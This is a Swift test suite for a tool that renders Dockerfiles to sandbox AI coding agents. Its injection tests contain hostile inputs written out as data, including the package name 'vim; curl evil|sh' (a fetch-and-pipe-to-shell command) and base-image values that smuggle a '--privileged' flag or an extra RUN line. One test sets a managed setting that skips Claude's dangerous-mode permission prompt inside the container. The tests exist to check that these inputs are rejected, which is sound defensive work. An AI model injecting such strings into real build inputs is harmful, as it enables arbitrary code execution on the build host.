import Foundation
import PaddockCore
import Testing

@Suite("The rendered Dockerfile")
struct ImageRecipeTests {
    func render(
        _ profile: AgentProfile = .claude, packages: [String] = [], base: String? = nil, uid: UInt32 = 1234,
        gid: UInt32 = 5678
    ) throws -> ImageRecipe {
        try ImageRecipe.render(base: base, extraPackages: packages, profile: profile, uid: uid, gid: gid)
    }

    @Test func defaultBaseAndRequiredPackages() throws {
        let text = try render().dockerfile
        #expect(text.contains("FROM debian:bookworm-slim\n"))
        for package in ["git", "ca-certificates", "curl", "socat", "openssh-client", "ripgrep", "jq", "less", "procps"]
        {
            #expect(
                text.contains(" \(package) ") || text.contains(" \(package)\n") || text.contains("    \(package) "),
                "\(package)")
        }
        #expect(text.contains("USER 1234:5678\n"))
        #expect(text.contains("WORKDIR /workspace\n"))
        #expect(text.contains("useradd --uid 1234 --gid 5678 --non-unique"))
        #expect(text.contains("getent group 5678"))
    }

    @Test func claudeProfileInstallsAndConfiguresClaude() throws {
        let text = try render(.claude).dockerfile
        #expect(text.contains("RUN npm install -g --no-fund --no-audit @anthropic-ai/claude-code"))
        #expect(text.contains("IS_SANDBOX=\"1\""))
        #expect(text.contains("DISABLE_AUTOUPDATER=\"1\""))
        #expect(text.contains("/home/agent/.claude"))
    }

    @Test func codexAndGeminiProfiles() throws {
        #expect(try render(.codex).dockerfile.contains("@openai/codex"))
        let gemini = try render(.gemini).dockerfile
        #expect(gemini.contains("@google/gemini-cli"))
        #expect(gemini.contains("sha256sum -c"))
    }

    @Test func shellProfileInstallsNoAgent() throws {
        let text = try render(.shell).dockerfile
        #expect(!text.contains("npm"))
    }

    @Test func contentHashTracksEveryInput() throws {
        let base = try render()
        #expect(try render().contextHash == base.contextHash)
        #expect(try render(packages: ["tree"]).contextHash != base.contextHash)
        #expect(try render(base: "debian:trixie-slim").contextHash != base.contextHash)
        #expect(try render(uid: 1).contextHash != base.contextHash)
        #expect(base.tag == "paddock-claude:" + base.contextHash.prefix(16))
    }

    @Test(arguments: ["vim; curl evil|sh", "-y", "Vim", "a", "pkg name", "x=\n"])
    func packageNamesCannotInjectShell(name: String) {
        #expect(throws: PaddockError.self) {
            try ImageRecipe.render(base: nil, extraPackages: [name], profile: .shell, uid: 1, gid: 1)
        }
    }

    @Test(arguments: ["--privileged", "debian\nRUN evil", "a b", ""])
    func baseImageMustBeAReference(base: String) {
        #expect(throws: PaddockError.self) {
            try ImageRecipe.render(base: base, extraPackages: [], profile: .shell, uid: 1, gid: 1)
        }
    }

    /// The bypass-permissions warning is paddock's to accept: a root-owned managed-settings file in the image,
    /// which Claude reads and the agent cannot change. Only Claude's image has it.
    @Test func claudeImageAcceptsTheBypassWarningAsPolicy() throws {
        let claude = try render(.claude)
        #expect(
            claude.files["etc/claude-code/managed-settings.json"] == #"{"skipDangerousModePermissionPrompt": true}"#
                + "\n")
        #expect(
            claude.dockerfile.contains(
                "COPY etc/claude-code/managed-settings.json /etc/claude-code/managed-settings.json"))
        #expect(try render(.codex).files["etc/claude-code/managed-settings.json"] == nil)
    }

    static let claudeBinary = AgentArtifact(
        kind: .binary, hostPath: "/opt/x/claude", sha256: String(repeating: "a", count: 64))

    /// An agent from a file the user has: copied under a fixed name (nothing of the host path in the Dockerfile),
    /// no npm or Node, the checksum in the image's label and in the content hash.
    @Test func anAgentFromTheUsersExecutable() throws {
        let recipe = try ImageRecipe.render(
            base: nil, extraPackages: [], profile: .claude, uid: 1, gid: 1, artifact: Self.claudeBinary)
        #expect(recipe.dockerfile.contains("\nCOPY agent/executable /usr/local/bin/claude\n"))
        #expect(!recipe.dockerfile.contains("npm") && !recipe.dockerfile.contains("nodejs"))
        #expect(!recipe.dockerfile.contains("/opt/x"))
        #expect(recipe.labels[AgentArtifact.label] == Self.claudeBinary.sha256)
        #expect(recipe.labels[ImageRecipe.contextLabel] == recipe.contextHash)
        var other = Self.claudeBinary
        other.sha256 = String(repeating: "b", count: 64)
        let changed = try ImageRecipe.render(
            base: nil, extraPackages: [], profile: .claude, uid: 1, gid: 1, artifact: other)
        #expect(changed.contextHash != recipe.contextHash, "another file is another image")
        #expect(try render(.claude, uid: 1, gid: 1).labels[AgentArtifact.label] == nil)
    }

    @Test func anAgentFromAnArchiveIsUnpackedByADD() throws {
        let archive = AgentArtifact(kind: .archive, hostPath: "/x/Codex-0.163.TGZ", sha256: "c")
        #expect(archive.contextPath == "agent/archive.tgz")
        let text = try ImageRecipe.render(
            base: nil, extraPackages: [], profile: .codex, uid: 1, gid: 1, artifact: archive
        ).dockerfile
        #expect(text.contains("\nADD agent/archive.tgz /opt/paddock-agent/\n"))
        #expect(text.contains("-type f -name codex"))
        #expect(text.contains("ln -s \"$found\" /usr/local/bin/codex"))
        #expect(!text.contains("npm"))
    }

    /// Gemini's CLI needs Node and its packages: a single file cannot install it, and paddock says so.
    @Test func onlySingleExecutableAgentsInstallFromAFile() {
        for profile in [AgentProfile.gemini, .shell] {
            #expect(throws: PaddockError.self) {
                try ImageRecipe.render(
                    base: nil, extraPackages: [], profile: profile, uid: 1, gid: 1, artifact: Self.claudeBinary)
            }
        }
    }

    @Test func theChecksumIsTheFilesSHA256() throws {
        let path = "/tmp/paddock-artifact-\(getpid())"
        try "abc".write(toFile: path, atomically: true, encoding: .utf8)
        defer { unlink(path) }
        #expect(
            try AgentArtifact.sha256(ofFile: path) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        )
        #expect(throws: PaddockError.self) { try AgentArtifact.sha256(ofFile: path + "-missing") }
    }
}
